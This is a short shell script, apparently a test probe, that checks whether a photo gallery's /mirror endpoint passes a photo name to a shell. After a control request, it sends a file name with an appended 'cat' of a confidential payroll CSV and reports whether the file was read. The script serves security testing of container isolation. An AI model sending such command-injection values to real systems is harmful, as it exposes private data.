# Reads a file of the machine through the gallery's flaw: the name of a photo is given to a shell.
base="http://$HOST_ADDRESS:8080"
ask() { curl --interface "$FROM" --silent --max-time 6 "$@"; }
mark="m$RANDOM$RANDOM"
ask -X PUT --data "$mark" "$base/photos/$mark.txt" >/dev/null
control=false
[ "$(ask --get --data-urlencode "name=$mark.txt" "$base/mirror" | rev)" = "$mark" ] && control=true
found=$(ask --get --data-urlencode "name=$mark.txt; cat /machine/etc/gallery/payroll.csv" "$base/mirror")
case $found in
  *confidential*) outcome=reached observed='The payroll file was read through the container' ;;
  *) outcome=stopped observed='The payroll file could not be reached from the container' ;;
esac
printf '{"outcome":"%s","control":%s,"observed":"%s"}\n' "$outcome" "$control" "$observed" >&3
